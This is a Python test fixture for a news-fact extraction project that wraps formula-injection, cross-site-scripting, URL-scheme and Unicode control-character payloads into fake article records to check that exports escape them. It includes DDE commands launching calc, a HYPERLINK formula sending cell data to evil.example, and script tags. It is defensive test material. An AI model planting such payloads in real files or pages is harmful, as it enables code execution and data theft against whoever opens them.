"""Texts that attack whoever opens them: formulas, scripts, links, direction marks, characters that no format holds."""

from dataclasses import replace
from typing import Any

from dateline.models.article import Article
from dateline.models.facts import Fact
from dateline.models.fields.casualties import CasualtyFact
from dateline.models.fields.dates import DateFact
from dateline.models.fields.leaders import LeaderFact
from dateline.models.fields.places import PlaceFact
from dateline.models.ids import content_id, fact_id
from dateline.models.incident import Incident, Toll
from dateline.models.record import Record

MARK = "PWNED"  # what a script that runs would write into the page's title
_RUN = f"document.title='{MARK}'"

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\calc.exe'!''",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(A1;B1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    '",=1+1',
    '";=1+1',
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    "x|=1+1",
    "=1+1;=2+2",
    "- a list\n- of two",
    "@handle said",
    "+1 555 0100",
    "-",
    "=",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "3-4",
    "4/5/2014",
    "00012",
    "12:30",
    "50%",
    "1,234",
    "_x0041_",
    "_x000D_=1",
    "sep=;",
]
SCRIPTS = [
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f'<svg onload="{_RUN}">',
    f"<svg><script>{_RUN}</script></svg>",
    f'<body onload="{_RUN}">',
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f'<a href="javascript:{_RUN}">x</a>',
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "//evil.example/x",
    f"</title><script>{_RUN}</script>",
    f"<!--<script>{_RUN}",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    "<style>@import 'http://evil.example/x'</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    f"${{{_RUN}}}",
    f"{{{{{_RUN}}}}}",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "<![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "&y;",
    f"\u2028{_RUN}\u2029",
    f"`{_RUN}`",
    f"\\u003cscript>{_RUN}",
    f"<math><mi xlink:href='javascript:{_RUN}'>",
]
CHARACTERS = [
    "a\x00b",
    "\x00=1+1",
    "a\x01b",
    "a\x07b",
    "a\x08b",
    "a\x0bb",
    "a\x0cb",
    "a\x1bb",
    "a\x1b[2Jb",
    "a\x7fb",
    "a\x85b",
    "a\x9bb",
    "\u202e41 dellik",
    "\u202d14\u202c",
    "\u2066x",
    "\u2067x\u2069",
    "\u2068x",
    "\u202ax",
    "\u200fx",
    "a\ud800b",
    "\udfffa",
    "\ud83d",
    "a\ufffeb",
    "a\uffffb",
    "😀",
    "👨‍👩‍👧",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "e\u0301" * 40,
    "ﷺ",
    "\U0010ffff",
    "Ｗｉｄｅ",
]
LONG = ["x" * 40_000, "😀" * 20_000, "long words " * 4_000, "=" + "1+" * 20_000, "line\n" * 8_000]

PAYLOADS = [*FORMULAS, *SCRIPTS, *CHARACTERS, *LONG]


def hostile_record(payload: str, number: int) -> Record:
    """An article that holds a payload wherever words can stand: before a value, in it, and in what is known of it."""
    text = f"😀 {payload} Nine {payload} men died in Velm{number} on 3 May, {payload} said."
    toll = _fact(
        CasualtyFact,
        text,
        "casualties",
        f"Nine {payload} men",
        "killed",
        outcome="killed",
        low=9,
        best=9,
        high=9,
        qualifier="exact",
        vague=None,
        group=payload,
        group_class="men",
        scope="incident",
        polarity="affirmed",
        attribution=payload,
    )
    day = _fact(
        DateFact,
        text,
        "dates",
        "3 May",
        earliest="2021-05-03",
        latest="2021-05-03",
        precision=1,
        granularity="day",
        anchor="published",
    )
    place = _fact(
        PlaceFact,
        text,
        "places",
        f"Velm{number}",
        name=payload,
        country="XA",
        country_name=payload,
        admin1=payload,
        admin2=None,
        latitude=1.5,
        longitude=2.25,
        geonameid=None,
        precision=1,
        role="event",
    )
    leader = _fact(
        LeaderFact,
        text,
        "leaders",
        payload,
        name=payload,
        role=payload,
        organisation=None,
        role_class="other",
        status="mentioned",
        attribution=None,
        same_as="x",
    )
    article = Article(
        result="read",
        url=payload if "script:" in payload.lower() or "data:" in payload else f"https://news.example/{number}",
        title=payload,
        publisher=payload,
        published="2021-05-04",
        published_from="given",
        text=text,
    )
    incident = Incident(
        id=content_id("hostile", number),
        main=True,
        part_of=None,
        earliest="2021-05-03",
        latest="2021-05-03",
        date_precision=1,
        place=place,
        killed=Toll(low=9, best=9, high=9),
        injured=None,
        missing=None,
        captured=None,
        killed_or_injured=None,
        leaders=(payload,),
        facts=(toll.id, day.id, place.id),
        basis={"date": (day.id,), "place": (place.id,), "killed": (toll.id,)},
    )
    facts: dict[str, tuple[Fact, ...]] = {
        "casualties": (toll,),
        "dates": (day,),
        "places": (place,),
        "leaders": (leader,),
    }
    return Record(
        id=f"hostile-{number}", article=article, facts=facts, incidents=(incident,), sentences=((0, len(text)),)
    )


def _fact(shape: Any, text: str, field: str, quote: str, *distinct: str, **values: Any) -> Any:
    start = text.index(quote)
    stop = start + len(quote)
    own = fact_id(text, field, start, stop, *distinct)
    return shape(id=own, start=start, stop=stop, quote=quote, rule=f"{field}.rule", **values)


def hostile_records() -> list[Record]:
    """One article for each payload."""
    return [hostile_record(payload, number) for number, payload in enumerate(PAYLOADS)]


def storable(record: Record) -> bool:
    """Whether a database that holds UTF-8 can hold its text: what is read was decoded, and has neither NUL nor lone
    surrogates."""
    return not any(character == "\x00" or "\ud800" <= character <= "\udfff" for character in record.article.text)


def decided_on(record: Record, **values: Any) -> Record:
    """The record with other values of its article."""
    return replace(record, article=replace(record.article, **values))
